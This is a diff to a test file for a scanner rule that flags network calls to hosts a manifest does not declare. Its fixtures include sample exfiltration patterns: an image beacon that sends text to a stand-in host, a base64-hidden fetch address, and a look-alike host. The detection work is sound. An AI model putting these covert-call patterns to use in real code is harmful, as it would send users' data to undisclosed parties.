@@ -8,6 +8,7 @@ const promise = { original: { permissions: [{ network: { hosts: ['api.example.ne
 test('bad: an address that the manifest does not name', () => {
   assert.deepEqual(said(rule, { 'a.js': 'fetch("https://other.test/x")' }, promise), ['high a.js:1']);
   assert.deepEqual(said(rule, { 'a.js': 'const h = "other.test";\nfetch(`https://${h}/x`)' }, promise), ['high a.js:2']);
+  assert.deepEqual(said(rule, { 'a.js': 'picture.src = "//other.test/x.gif?" + text' }, promise), ['high a.js:1'], 'an address with the scheme of its page');
   assert.deepEqual(said(rule, { 'a.js': 'fetch(atob("aHR0cHM6Ly9vdGhlci50ZXN0L3g="))' }, promise), ['high a.js:1'], 'an address in base64');
   assert.deepEqual(said(rule, { 'a.py': 'u = "https://" + "other.test"' }, promise), ['high a.py:1']);
   assert.deepEqual(said(rule, { 'a.js': 'fetch("https://api.example.net.other.test/x"); connect({ host: "evilmojang.com" })' }, promise), ['high a.js:1', 'high a.js:1']);
@@ -16,5 +17,6 @@ test('bad: an address that the manifest does not name', () => {
 test('good: what it names, and what is no address', () => {
   assert.deepEqual(said(rule, { 'a.js': 'fetch("https://api.example.net/x"); fetch(`https://session.mojang.com/${x}`)' }, promise), []);
   assert.deepEqual(said(rule, { 'a.js': '// https://other.test/x\nconst ns = "http://www.w3.org/2000/svg"; fetch(`https://${host}/x`)' }, promise), []);
+  assert.deepEqual(said(rule, { 'a.js': 'const marks = ["//# sourceMappingURL=a.js.map", "// see other.test", "//item[@id]/name", "//session.mojang.com/x"]' }, promise), []);
   assert.deepEqual(said(rule, { 'a.js': 'fetch("https://other.test/x")' }), [], 'a manifest without a list promises nothing');
 });
